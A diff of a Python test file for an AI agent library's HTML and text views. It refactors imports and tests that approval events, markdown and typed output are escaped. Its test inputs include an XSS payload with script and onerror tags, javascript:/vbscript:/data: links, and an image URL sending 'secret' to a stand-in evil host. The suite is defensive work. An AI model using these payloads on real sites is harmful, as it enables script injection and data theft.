@@ -17,8 +17,9 @@ from menglong_magic import ApprovalDecision, ApprovalRequest, ChatAgent, tool
 from menglong_magic import events as ev
 from menglong_magic.agent.result import RunResult, RunUsage
 from menglong_magic.models import ScriptedModel, call, calls, reply
-from menglong_magic.panel import RunPanel, make_view
-from menglong_magic.textview import TextView
+from menglong_magic.ui.html import body_html, final_html, header_html
+from menglong_magic.ui.panel import RunPanel, make_view
+from menglong_magic.ui.textview import TextView
 
 XSS = '<img src=x onerror="window.__pwned=1"><script>alert(1)</script>'
 MARKDOWN = "## Result\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nx = 1\n```\n"
@@ -250,7 +251,7 @@ def test_tool_progress_waiting_and_new_statuses_render() -> None:
 
 
 def test_markdown_refuses_script_links_and_does_not_fetch_images() -> None:
-    from menglong_magic.viewmodel import render_markdown
+    from menglong_magic.markup import render_markdown
 
     html = render_markdown("[a](javascript:alert(1)) [b](vbscript:x) [c](data:text/html,x) <a href='javascript:y'>d</a>"
                            " ![e](https://evil.example/?q=secret) [ok](https://example.com)")
@@ -467,7 +468,7 @@ async def test_nothing_is_asked_after_finish_and_late_clicks_are_ignored(recorde
 
 
 def test_approval_events_render_in_the_view_model_and_text_view() -> None:
-    from menglong_magic.viewmodel import RunViewModel
+    from menglong_magic.ui.state import RunViewModel
 
     stream = io.StringIO()
     view = TextView(title="t", stream=stream)
@@ -480,7 +481,7 @@ def test_approval_events_render_in_the_view_model_and_text_view() -> None:
     for e in evs:
         view.handle(e)
         model.apply(e)
-    html = model.body_html()
+    html = body_html(model)
     assert html.count("mm-approval-slot") == 2 and "✋" in html and "waiting for a decision" in html
     evs = [ev.ApprovalDecided("r", iteration=1, call_id="c1", name="send_email", approved=False,
                               reason=f"not now {XSS}", by="prompt"),
@@ -493,7 +494,7 @@ def test_approval_events_render_in_the_view_model_and_text_view() -> None:
     for e in evs:
         view.handle(e)
         model.apply(e)
-    html = model.body_html()
+    html = body_html(model)
     assert "mm-approval-slot" not in html and "<img" not in html
     assert "denied (prompt): not now &lt;img" in html and "ok · approved (callback)" in html
     assert "this tool call was not executed" not in html  # the head says it once
@@ -528,8 +529,8 @@ async def test_typed_output_is_a_table_and_cost_shows_next_to_tokens() -> None:
 
     from menglong_magic.models import ModelRequest, ModelResponse
     from menglong_magic.models.base import Model
+    from menglong_magic.ui.state import RunViewModel
     from menglong_magic.usage import Usage
-    from menglong_magic.viewmodel import RunViewModel
 
     class City(pydantic.BaseModel):
         name: str
@@ -555,11 +556,11 @@ async def test_typed_output_is_a_table_and_cost_shows_next_to_tokens() -> None:
     result = await agent.arun("Oslo?", output_type=City, on_event=both)
     view.finish()
     assert result.usage.cost == pytest.approx(0.00021)
-    html = model.final_html()
+    html = final_html(model)
     assert '<table class="mm-output-table">' in html and "<caption" in html and ">City<" in html
     assert "&lt;b&gt;Oslo&lt;/b&gt;" in html and "<b>Oslo</b>" not in html  # escaped like everything else
     assert "<li><code>Gamle Oslo</code></li>" in html
-    assert "$0.00021" in model.header_html() and "$0.00021" in model.usage_text()
+    assert "$0.00021" in header_html(model) and "$0.00021" in model.usage_text()
     text = view.out.getvalue()  # type: ignore[attr-defined]
     assert "output: City(name='<b>Oslo</b>'" in text
 
